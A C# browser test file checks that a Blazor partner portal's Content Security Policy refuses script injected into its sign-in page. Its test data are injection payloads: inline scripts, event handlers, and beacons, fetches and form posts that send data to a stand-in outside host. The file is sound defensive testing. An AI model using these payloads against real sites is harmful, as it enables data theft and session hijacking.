namespace PartnerBlazor.Tests.Browser;

/// <summary>What the browser refuses because the portal tells it to, and that no journey can overlook it.</summary>
public sealed class ContentPolicyTests(BrowserFixture browser)
{
    [Theory]
    [InlineData("const script = document.createElement('script'); script.textContent = 'window.slippedIn = true'; document.body.append(script)", "script-src")]
    [InlineData("setTimeout('window.slippedIn = true')", "script-src")]
    [InlineData("document.body.innerHTML += '<button onclick=\"window.slippedIn = true\">x</button>'; document.body.lastChild.click()", "script-src")]
    [InlineData("const style = document.createElement('style'); style.textContent = 'body { color: red }'; document.body.append(style)", "style-src-elem")]
    [InlineData("const image = new Image(); image.src = 'https://elsewhere.example/?secret'", "img-src")]
    [InlineData("fetch('https://elsewhere.example/').catch(() => { })", "connect-src")]
    [InlineData("const form = document.createElement('form'); form.action = 'https://elsewhere.example/'; form.method = 'post'; document.body.append(form); form.submit()", "form-action")]
    [InlineData("const frame = document.createElement('iframe'); frame.src = '/sign-in'; document.body.append(frame)", "frame-src")]
    [InlineData("const base = document.createElement('base'); base.href = 'https://elsewhere.example/'; document.head.prepend(base)", "base-uri")]
    public async Task What_slipped_into_a_page_does_nothing(string slipped, string directive)
    {
        await using var portal = await PortalHost.StartAsync(customers: 1);
        await using var tab = await browser.TabAsync(portal);
        await tab.GoAsync("/sign-in");

        // The page tells itself first, then its console.
        var told = await tab.Page.EvaluateAsync<string>($$"""
            new Promise(done => {
              document.addEventListener('securitypolicyviolation', event => setTimeout(() => done(event.effectiveDirective)));
              {{slipped}};
            })
            """);

        Assert.StartsWith(directive, told, StringComparison.Ordinal);
        Assert.False(await tab.Page.EvaluateAsync<bool>("window.slippedIn === true"));
        Assert.NotEmpty(tab.TakeRefused());
    }

    [Fact]
    public async Task A_tab_in_which_something_was_refused_does_not_close_quietly()
    {
        await using var portal = await PortalHost.StartAsync(customers: 1);
        var tab = await browser.TabAsync(portal);
        await tab.GoAsync("/sign-in");
        var console = tab.Page.WaitForConsoleMessageAsync();
        await tab.Page.EvaluateAsync("const script = document.createElement('script'); script.textContent = '0'; document.body.append(script)");
        await console;

        await Assert.ThrowsAsync<InvalidOperationException>(async () => await tab.DisposeAsync());
    }
}
